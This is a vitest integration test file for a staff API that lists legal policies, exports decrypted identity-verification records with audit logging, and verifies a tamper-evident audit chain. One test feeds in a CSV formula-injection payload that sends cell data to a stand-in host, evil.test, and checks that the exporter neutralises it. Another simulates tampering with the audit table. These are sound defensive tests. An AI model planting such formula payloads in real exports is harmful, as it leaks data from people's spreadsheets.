import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ExportedRecord, recordsToCsv } from "../src/records/export-verification-records.ts";
import { activeLine, somebody } from "./support/journey.ts";
import { type StaffClient, signInAs } from "./support/staff.ts";
import { startTestServer, type TestServer } from "./support/test-server.ts";

let server: TestServer;
let compliance: StaffClient;
let admin: StaffClient;
let line: { reference: string; msisdn: string };
let other: { reference: string };

beforeAll(async () => {
  server = await startTestServer();
  compliance = await signInAs(server, "compliance");
  admin = await signInAs(server, "admin");
  line = await activeLine(server, somebody());
  other = await activeLine(server, somebody());
}, 60_000);
afterAll(async () => server?.close());

async function auditActions(action: string): Promise<{ actor: string; data: Record<string, unknown> }[]> {
  const { rows } = await server.services.db.query<{ actor: string; data: Record<string, unknown> }>(
    "SELECT actor, data FROM audit_entries WHERE action = $1 ORDER BY seq",
    [action],
  );
  return rows;
}

describe("GET /v1/staff/policies", () => {
  it("lists every policy loaded with its dates and hash, and the one statutory version in force that day", async () => {
    const listed = await admin.api("GET", "/v1/staff/policies?at=2026-11-25");
    expect(listed.status).toBe(200);
    const items = listed.body.items as {
      id: string;
      version: string;
      kind: string;
      contentHash: string;
      effectiveFrom: string;
      inForce: boolean;
    }[];
    expect(items.length).toBe(server.services.policies.length);
    const law = items.filter((p) => p.id === "jp-mobile-act");
    expect(law.map((p) => [p.version, p.inForce])).toEqual([
      ["2006-04-01", false],
      ["2026-04-01", true],
      ["2027-04-01", false],
    ]);
    expect(law[1]?.contentHash).toMatch(/^[0-9a-f]{64}$/);
    expect(items[0]?.kind).toBe("statutory");

    const later = await compliance.api("GET", "/v1/staff/policies?at=2027-04-01");
    const inForce = (later.body.items as { id: string; version: string; inForce: boolean }[]).filter(
      (p) => p.id === "jp-mobile-act" && p.inForce,
    );
    expect(inForce.map((p) => p.version)).toEqual(["2027-04-01"]);
  });

  it("refuses a day that is not a date, naming the field", async () => {
    const refused = await admin.api("GET", "/v1/staff/policies?at=2026-13-01");
    expect(refused.status).toBe(422);
    expect(refused.headers.get("content-type")).toMatch(/application\/problem\+json/);
    expect(refused.body.errors).toEqual([expect.objectContaining({ field: "at" })]);
  });

  it("shows one policy's data as loaded, and 404 for an id nobody loaded", async () => {
    const shown = await admin.api("GET", "/v1/staff/policies/jp-mobile-act?at=2026-11-25");
    expect(shown.status).toBe(200);
    const versions = shown.body.versions as {
      version: string;
      inForce: boolean;
      data: { id: string; kind: string; rules: unknown[]; effectiveFrom: string };
    }[];
    expect(versions).toHaveLength(3);
    expect(versions[1]).toMatchObject({ version: "2026-04-01", inForce: true });
    expect(versions[1]?.data).toMatchObject({ id: "jp-mobile-act", kind: "statutory", effectiveFrom: "2026-04-01" });
    expect(versions[1]?.data.rules.length).toBeGreaterThan(0);

    const missing = await admin.api("GET", "/v1/staff/policies/no-such-policy");
    expect(missing.status).toBe(404);
    expect(missing.headers.get("content-type")).toMatch(/application\/problem\+json/);
  });
});

describe("GET /v1/staff/records", () => {
  it("finds the verification records of a period, decrypted, and audits who exported how many", async () => {
    const before = (await auditActions("verification_records.exported")).length;
    const today = new Date().toISOString().slice(0, 10);
    const found = await compliance.api("GET", `/v1/staff/records?from=${today}&to=${today}`);
    expect(found.status).toBe(200);
    const records = found.body.records as { reference: string; particulars: { name: { family: string } } }[];
    expect(records.map((r) => r.reference)).toEqual(expect.arrayContaining([line.reference, other.reference]));
    expect(records[0]?.particulars.name.family).toBeTruthy();

    const exported = await auditActions("verification_records.exported");
    expect(exported).toHaveLength(before + 1);
    expect(exported.at(-1)).toMatchObject({
      actor: `staff:${compliance.id}`,
      data: { count: records.length, from: today, to: today },
    });
  });

  it("answers a page at a time in the order the records were made, each page audited, none repeated or left out", async () => {
    const today = new Date().toISOString().slice(0, 10);
    const whole = await compliance.api("GET", `/v1/staff/records?from=${today}&to=${today}`);
    expect(whole.body.nextCursor).toBeNull();
    const all = (whole.body.records as { recordId: string; verifiedAt: string }[]).map((r) => r.recordId);
    expect(all.length).toBeGreaterThanOrEqual(2);

    const before = (await auditActions("verification_records.exported")).length;
    const paged: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page = await compliance.api(
        "GET",
        `/v1/staff/records?from=${today}&to=${today}&limit=1${cursor ? `&cursor=${cursor}` : ""}`,
      );
      expect(page.status).toBe(200);
      expect(page.body.records).toHaveLength(1);
      paged.push(...(page.body.records as { recordId: string }[]).map((r) => r.recordId));
      cursor = page.body.nextCursor as string | null;
      pages++;
    } while (cursor && pages <= all.length);
    expect(paged).toEqual(all);
    expect(pages).toBe(all.length);

    const audited = (await auditActions("verification_records.exported")).slice(before);
    expect(audited).toHaveLength(pages);
    expect(audited.map((e) => e.data.count)).toEqual(all.map(() => 1));
    // A later page says where it started; the first does not.
    expect(audited[0]?.data.after).toBeUndefined();
    expect(audited[1]?.data.after).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
  });

  it("narrows to one application by its reference", async () => {
    const one = await compliance.api("GET", `/v1/staff/records?reference=${line.reference}`);
    expect(one.status).toBe(200);
    const records = one.body.records as { reference: string }[];
    expect(records.length).toBeGreaterThan(0);
    expect(new Set(records.map((r) => r.reference))).toEqual(new Set([line.reference]));
  });

  it("finds nothing before the records were made", async () => {
    const none = await compliance.api("GET", "/v1/staff/records?from=2020-01-01&to=2020-12-31");
    expect(none.status).toBe(200);
    expect(none.body.records).toEqual([]);
  });

  it("downloads them as CSV with a header row", async () => {
    const csv = await fetch(`${server.url}/v1/staff/records?format=csv&reference=${other.reference}`, {
      headers: { cookie: compliance.cookie },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.headers.get("content-disposition")).toMatch(/attachment; filename="verification-records\.csv"/);
    const text = await csv.text();
    const lines = text.trim().split("\n");
    expect(lines[0]).toMatch(/^recordId,version,reference,/);
    expect(lines.length).toBeGreaterThan(1);
    expect(lines[1]).toContain(other.reference);
  });

  it("neutralises a cell a spreadsheet would run as a formula (an applicant's kanji name, say)", async () => {
    const found = await compliance.api("GET", `/v1/staff/records?reference=${other.reference}`);
    const [record] = found.body.records as ExportedRecord[];
    if (!record) throw new Error("no record");
    const hostile = '=HYPERLINK("https://evil.test/?"&A1,"click")';
    const csv = recordsToCsv([
      { ...record, particulars: { ...record.particulars, name: { ...record.particulars.name, kanji: hostile } } },
    ]);
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row?.nameKanji).toBe(`'${hostile}`);
    expect(row?.reference).toBe(other.reference);
  });

  it.each([
    ["from=2026-02-30", "from"],
    ["to=yesterday", "to"],
    ["from=2026-05-02&to=2026-05-01", "to"],
    ["format=xml", "format"],
    ["limit=0", "limit"],
    ["limit=501", "limit"],
    ["limit=ten", "limit"],
    ["format=csv&limit=10", "limit"],
    ["cursor=bm90LWEtY3Vyc29y", "cursor"],
  ])("refuses %s naming the field %s", async (query, field) => {
    const refused = await compliance.api("GET", `/v1/staff/records?${query}`);
    expect(refused.status).toBe(422);
    expect(refused.headers.get("content-type")).toMatch(/application\/problem\+json/);
    expect(refused.body.errors).toEqual([expect.objectContaining({ field })]);
  });
});

describe("POST /v1/staff/audit/verification", () => {
  it("reports an intact chain with its entry count and head hash, and audits that it ran", async () => {
    const checked = await compliance.api("POST", "/v1/staff/audit/verification");
    expect(checked.status).toBe(200);
    const { rows } = await server.services.db.query<{ seq: number }>("SELECT max(seq) AS seq FROM audit_entries");
    // The check's own entry is appended after it: the chain it saw was one shorter.
    expect(checked.body).toMatchObject({ valid: true, entries: Number(rows[0]?.seq) - 1 });
    expect(checked.body.headHash).toMatch(/^[0-9a-f]{64}$/);
    expect((await auditActions("audit_chain.verified")).at(-1)).toMatchObject({
      actor: `staff:${compliance.id}`,
      data: { valid: true, entries: checked.body.entries },
    });
  });

  it("names the first entry an attacker with table access rewrote", async () => {
    const db = server.services.db;
    await db.query("ALTER TABLE audit_entries DISABLE TRIGGER audit_entries_no_change");
    try {
      await db.query("UPDATE audit_entries SET actor = 'staff:mallory' WHERE seq = 5");
      const checked = await admin.api("POST", "/v1/staff/audit/verification");
      expect(checked.status).toBe(200);
      expect(checked.body).toMatchObject({
        valid: false,
        entries: 4,
        firstBroken: { seq: 5, reason: "content does not match its hash" },
      });
      expect(checked.body.headHash).toBeUndefined();
      expect((await auditActions("audit_chain.verified")).at(-1)).toMatchObject({
        actor: `staff:${admin.id}`,
        data: { valid: false, firstBroken: 5 },
      });
    } finally {
      await db.query("ALTER TABLE audit_entries ENABLE TRIGGER audit_entries_no_change");
    }
  });
});
